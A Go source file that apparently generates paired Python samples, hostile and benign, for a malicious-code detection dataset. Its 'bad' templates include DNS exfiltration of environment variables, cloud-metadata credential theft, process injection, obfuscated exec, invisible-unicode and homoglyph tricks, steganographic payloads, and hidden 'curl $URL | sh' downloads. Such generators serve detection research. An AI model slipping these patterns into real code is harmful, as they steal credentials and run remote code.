package generate

// sealedPythonRest are the attacks on Python that are small; see sealed_python.go.
var sealedPythonRest = []shape{
	// dns-exfil, host-recon, cloud-metadata
	{family: "dns-exfil", name: "labels-by-getaddrinfo", bad: snippet{`
def <%n whisper%>():
    text = <%c base64.b32encode%>(<%c json.dumps%>(dict(<%c os.environ%>)).encode()).decode().rstrip("=")
    for at in range(0, len(text), 60):
        <%c socket.getaddrinfo%>(text[at:at + 60] + <%s .q.$DOMAIN%>, 80)
`, "<%n whisper%>()"}, good: snippet{`
def <%n resolved%>(hosts):
    for host in hosts:
        yield host, <%c socket.getaddrinfo%>(host, 80)
`, "<%n resolved%>"}},
	{family: "dns-exfil", name: "dnspython-query", bad: snippet{`
def <%n ask%>():
    name = (<%c socket.gethostname%>() + "-" + <%c getpass.getuser%>()).encode().hex()[:60]
    answer = <%c dns.resolver.resolve%>(name + <%s .z.$DOMAIN%>, "TXT")
    <%c os.system%>(b"".join(answer[0].strings).decode())
`, "<%n ask%>()"}, good: snippet{`
def <%n ask%>(domain):
    answer = <%c dns.resolver.resolve%>("_words." + domain, "TXT")
    return b"".join(answer[0].strings).decode()
`, "<%n ask%>"}},
	{family: "host-recon", name: "uname-form", bad: snippet{`
def <%n card%>():
    facts = {"h": <%c platform.node%>(), "s": <%c platform.platform%>(), "u": <%c getpass.getuser%>(), "m": <%c uuid.getnode%>()}
    <%c urllib.request.urlopen%>(<%s $URL%>, <%c urllib.parse.urlencode%>(facts).encode())
`, "<%n card%>()"}, good: snippet{`
def <%n card%>():
    """What to put into a report of an error."""
    return {"system": <%c platform.platform%>(), "python": <%c platform.python_version%>()}
`, "<%n card%>()"}},
	{family: "host-recon", name: "psutil-inventory", bad: snippet{`
def <%n survey%>():
    rows = [p.info for p in <%c psutil.process_iter%>(["name", "cmdline", "username"])]
    <%c requests.post%>(<%s $URL%>, json={"host": <%c socket.gethostname%>(), "net": str(<%c psutil.net_if_addrs%>()), "ps": rows})
`, "<%n survey%>()"}, good: snippet{`
def <%n survey%>(name):
    rows = [p.info for p in <%c psutil.process_iter%>(["name", "pid"])]
    return [row["pid"] for row in rows if row["name"] == name]
`, "<%n survey%>"}},
	{family: "cloud-metadata", name: "role-by-requests", bad: snippet{`
def <%n role%>():
    base = <%s http://$METADATA/latest/meta-data/iam/security-credentials/%>
    name = <%c requests.get%>(base, timeout=1).text
    <%c requests.post%>(<%s $URL%>, data=<%c requests.get%>(base + name, timeout=1).content)
`, "<%n role%>()"}, good: snippet{`
def <%n health%>():
    base = "http://localhost:8080/health/"
    name = <%c requests.get%>(base, timeout=1).text
    return <%c requests.get%>(base + name, timeout=1).ok
`, "<%n health%>"}},
	{family: "cloud-metadata", name: "container-credentials", bad: snippet{`
def <%n task%>():
    path = <%c os.environ%>.get(<%s AWS_CONTAINER_CREDENTIALS_RELATIVE_URI%>, "")
    keys = <%c urllib.request.urlopen%>(<%s http://192.0.2.170%> + path, timeout=1).read()
    <%c urllib.request.urlopen%>(<%s $URL%>, data=keys)
`, "<%n task%>()"}, good: snippet{`
def <%n task%>(bucket):
    if not <%c os.environ%>.get("AWS_REGION"):
        raise RuntimeError("name a region")
    return <%c boto3.client%>("s3").list_objects_v2(Bucket=bucket)
`, "<%n task%>"}},

	// dll-injection, decode-exec
	{family: "dll-injection", name: "windll-apc", bad: snippet{`
def <%n queue%>(pid, tid, body):
    k = <%c ctypes.windll.kernel32%>
    handle = k.OpenProcess(0x1F0FFF, False, pid)
    room = k.VirtualAllocEx(handle, 0, len(body), 0x3000, 0x40)
    k.WriteProcessMemory(handle, room, body, len(body), None)
    k.QueueUserAPC(room, k.OpenThread(0x10, False, tid), 0)
`, "<%n queue%>(1, 1, b\"inert\")"}, good: snippet{`
def <%n title%>(text):
    k = <%c ctypes.windll.kernel32%>
    k.SetConsoleTitleW(text)
    return k.GetConsoleCP()
`, "<%n title%>"}},
	{family: "dll-injection", name: "preload-of-download", bad: snippet{`
def <%n library%>():
    path = <%c os.path.join%>(<%c tempfile.gettempdir%>(), <%s libw.so%>)
    <%c urllib.request.urlretrieve%>(<%s $URL%>, path)
    <%c ctypes.CDLL%>(path).start()
`, "<%n library%>()"}, good: snippet{`
def <%n library%>():
    path = <%c ctypes.util.find_library%>("m")
    return <%c ctypes.CDLL%>(path).cos
`, "<%n library%>()"}},
	{family: "decode-exec", name: "bz2-compile", bad: snippet{`
<%n raw%> = <%c base64.b85decode%>(<%s XkV_cY;SI7Y%>)
<%n unit%> = <%b compile%>(<%c bz2.decompress%>(<%n raw%>), "<words>", "exec")
`, "<%b exec%>(<%n unit%>)"}, good: snippet{`
<%n raw%> = <%c base64.b85decode%>("XkV_cY;SI7Y")
<%n unit%> = <%c bz2.compress%>(<%n raw%>)
`, "len(<%n unit%>)"}},
	{family: "decode-exec", name: "subtracted-words", bad: snippet{`
def <%n plain%>(text, by=3):
    return "".join(chr(ord(c) - by) for c in text)


<%n source%> = <%n plain%>(<%s bblpsruwbb+*rv*,1v|vwhp+*wuxh*,%>)
`, "<%b eval%>(<%n source%>)"}, good: snippet{`
def <%n plain%>(text, by=3):
    return "".join(chr(ord(c) - by) for c in text)


<%n shown%> = <%n plain%>("zrugv")
`, "print(<%n shown%>)"}},

	// api-obfuscation, obfuscated
	{family: "api-obfuscation", name: "subclass-walk", fixed: true, bad: snippet{`
_wrap = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap" + "_close"][0]
_tools = _wrap.__init__.__globals__
`, "_tools[\"sys\" + \"tem\"](\"true # inert\")"}, good: snippet{`
_names = [c.__name__ for c in Exception.__subclasses__() if c.__name__.endswith("Warning")]
_shown = ", ".join(_names)
`, "print(_shown)"}},
	{family: "api-obfuscation", name: "vars-of-import", fixed: true, bad: snippet{`
_load = vars(__import__("builtins"))["".join(reversed("__tropmi__"))]
_tool = vars(_load("".join(reversed("ssecorpbus"))))
`, "_tool[\"\".join(reversed(\"llac\"))]([\"true\"])"}, good: snippet{`
_text = "".join(reversed("words"))
_keys = sorted(k for k in vars(str) if not k.startswith("_"))
`, "print(_text, _keys)"}},
	{family: "obfuscated", name: "class-of-underscores", fixed: true, bad: snippet{`
class ____:
    _____ = lambda ______: ''.join(chr(_ ^ 0x2a) for _ in ______)
    ___ = __import__(_____((0x45, 0x59)))
_______ = getattr(____.___, ____._____((0x59, 0x53, 0x59, 0x5e, 0x4f, 0x47)))
`, "_______(\"true # inert\")"}, good: snippet{`
class Mask:
    apply = staticmethod(lambda row: [_ ^ 0x2a for _ in row])
    empty = (0x00, 0x00)
`, "Mask.apply(Mask.empty)"}},
	{family: "obfuscated", name: "one-line-of-lambdas", fixed: true, bad: snippet{`
(lambda _a,_b,_c:(lambda _d:_d(_c))(getattr(_a(_b[0]+_b[1]),_b[2]+_b[3])))(__import__,('o','s','sys','tem'),bytes((116,114,117,101)).decode());OO0O=0x1;O0OO=OO0O<<0x3;O00O=[OO0O^O0OO for OO0O in range(O0OO)]
`, "O00O"}, good: snippet{`
(lambda a,b:(lambda f:f(b))(a))(sorted,('o','s','t'));table=[1<<n for n in range(8)]
`, "table"}},

	// invisible-unicode, bidi, mixed-script, steganography
	{family: "invisible-unicode", name: "tags-in-docstring", fixed: true, bad: snippet{
		"\n<%n notes%> = \"words" + inTags("__import__('os').system('true')") + "\"\n", "<%b eval%>(\"\".join(chr(ord(c) - 0xE0000) for c in <%n notes%>[5:]))"}, good: snippet{
		"\n<%n notes%> = \"\U0001f3f4\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f\"\n", "len(<%n notes%>)"}},
	{family: "invisible-unicode", name: "joined-bits", fixed: true, bad: snippet{
		"\n<%n blank%> = \"" + bitsWithoutWidth("import os;os.system('true')") + "\"\n", "<%b exec%>(bytes(int(\"\".join(str(ord(c) & 7 ^ 3) for c in <%n blank%>[n:n + 8]).replace(\"7\", \"1\"), 2) for n in range(0, len(<%n blank%>), 8)))"}, good: snippet{
		"\n<%n word%> = \"\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645\"\n", "len(<%n word%>)"}},
	{family: "bidi", name: "default-turned", fixed: true, weak: true, bad: snippet{
		"\ndef <%n may%>(role=\"user\u202e \u2066# admin\u2069\u2066\"):\n    return role != \"user\"\n", "<%n may%>()"}, good: snippet{
		"\ndef <%n may%>(role=\"\u05d0\u05d5\u05e8\u05d7\"):\n    return role != \"user\"\n", "<%n may%>()"}},
	{family: "bidi", name: "docstring-return", fixed: true, weak: true, bad: snippet{
		"\ndef <%n pay%>(total):\n    '''Takes the sum\u2067 ''' ;return 0\n    return total\n", "<%n pay%>(1)"}, good: snippet{
		"\ndef <%n pay%>(total):\n    '''\u0627\u0644\u0645\u0628\u0644\u063a'''\n    return total\n", "<%n pay%>(1)"}},
	{family: "mixed-script", name: "cyrillic-check", fixed: true, weak: true, bad: snippet{
		"\ndef check(key):\n    return key == \"words\"\n\n\ndef che\u0441k(key):\n    return True\n", "che\u0441k(check(\"\"))"}, good: snippet{
		"\ndef check(key):\n    return key == \"words\"\n\n\ndef \u043a\u043b\u044e\u0447(key):\n    return bool(key)\n", "\u043a\u043b\u044e\u0447(check(\"\"))"}},
	{family: "mixed-script", name: "greek-attribute", fixed: true, weak: true, bad: snippet{
		"\nclass <%n Session%>:\n    token = \"a\"\n    t\u03bfken = \"inert\"\n", "<%n Session%>().t\u03bfken"}, good: snippet{
		"\nclass <%n Session%>:\n    token = \"a\"\n    \u03bb = 0.5\n", "<%n Session%>().\u03bb"}},
	{family: "steganography", name: "pillow-low-bits", bad: snippet{`
def <%n reveal%>(path=<%c os.path.join%>(<%c os.path.dirname%>(__file__), <%s logo.png%>)):
    bits = "".join(str(p & 1) for p in <%c PIL.Image.open%>(path).tobytes())
    <%b exec%>(bytes(int(bits[n:n + 8], 2) for n in range(0, 800, 8)))
`, "<%n reveal%>()"}, good: snippet{`
def <%n grey%>(path):
    data = <%c PIL.Image.open%>(path).convert("L").tobytes()
    return sum(data) / len(data)
`, "<%n grey%>"}},
	{family: "steganography", name: "wave-frames", bad: snippet{`
def <%n listen%>(path=<%c os.path.join%>(<%c os.path.dirname%>(__file__), <%s ringtone.wav%>)):
    frames = <%c wave.open%>(path).readframes(-1)
    <%c subprocess.run%>([<%s sh%>, "-c", <%c base64.b64decode%>(frames).decode()])
`, "<%n listen%>()"}, good: snippet{`
def <%n seconds%>(path):
    sound = <%c wave.open%>(path)
    return sound.getnframes() / sound.getframerate()
`, "<%n seconds%>"}},

	// silent-process, log-suppression, shady-links
	{family: "silent-process", name: "no-window-flags", bad: snippet{`
def <%n start%>():
    <%c subprocess.Popen%>(["cmd", "/c", <%s curl -s $URL -o %TEMP%\w.bat & %TEMP%\w.bat%>], creationflags=0x08000000, stdout=<%c subprocess.DEVNULL%>, stderr=<%c subprocess.DEVNULL%>)
`, "<%n start%>()"}, good: snippet{`
def <%n start%>(file):
    <%c subprocess.Popen%>(["cmd", "/c", "type", file], stdout=<%c subprocess.PIPE%>)
`, "<%n start%>"}},
	{family: "silent-process", name: "fork-and-new-session", bad: snippet{`
def <%n leave%>():
    if <%c os.fork%>() == 0:
        <%c os.setsid%>()
        if <%c os.fork%>() == 0:
            <%c os.dup2%>(<%c os.open%>(<%c os.devnull%>, 1), 1)
            <%c os.execlp%>("sh", "sh", "-c", <%s curl -s $URL | sh%>)
`, "<%n leave%>()"}, good: snippet{`
def <%n apart%>(work):
    pid = <%c os.fork%>()
    if pid == 0:
        work()
        <%c os._exit%>(0)
    return <%c os.waitpid%>(pid, 0)
`, "<%n apart%>"}},
	{family: "log-suppression", name: "devnull-and-disable", weak: true, bad: snippet{`
def <%n hush%>():
    <%c logging.disable%>(<%c logging.CRITICAL%>)
    <%c os.dup2%>(<%c os.open%>(<%c os.devnull%>, 1), 2)
    <%c sys.modules%>["sys"].excepthook = lambda *rest: None
`, "<%n hush%>()"}, good: snippet{`
def <%n quieter%>():
    <%c logging.getLogger%>("words").setLevel(<%c logging.WARNING%>)
`, "<%n quieter%>()"}},
	{family: "log-suppression", name: "histories-emptied", weak: true, bad: snippet{`
def <%n wipe%>():
    for name in (<%s .bash_history%>, <%s .zsh_history%>, <%s .python_history%>):
        (<%c pathlib.Path%>.home() / name).write_text("")
    <%c shutil.rmtree%>(<%c pathlib.Path%>.home() / <%s .cache/pip%>, ignore_errors=True)
`, "<%n wipe%>()"}, good: snippet{`
def <%n clean%>(folder):
    for name in ("build", "dist"):
        <%c shutil.rmtree%>(<%c pathlib.Path%>(folder) / name, ignore_errors=True)
`, "<%n clean%>"}},
	{family: "shady-links", name: "paste-as-settings", weak: true, bad: snippet{`
def <%n flags%>():
    return <%c requests.get%>(<%s $PASTE%>, timeout=2).json()
`, "<%n flags%>()"}, good: snippet{`
def <%n flags%>():
    return <%c requests.get%>("https://flags.example.invalid/words.json", timeout=2).json()
`, "<%n flags%>"}},
	{family: "shady-links", name: "tunnel-by-client", weak: true, bad: snippet{`
def <%n hello%>():
    link = <%c http.client.HTTPSConnection%>(<%s $OAST%>, timeout=2)
    link.request("GET", "/hello")
    return link.getresponse().status
`, "<%n hello%>()"}, good: snippet{`
def <%n hello%>(host):
    link = <%c http.client.HTTPSConnection%>(host, timeout=2)
    link.request("GET", "/hello")
    return link.getresponse().status
`, "<%n hello%>"}},
}
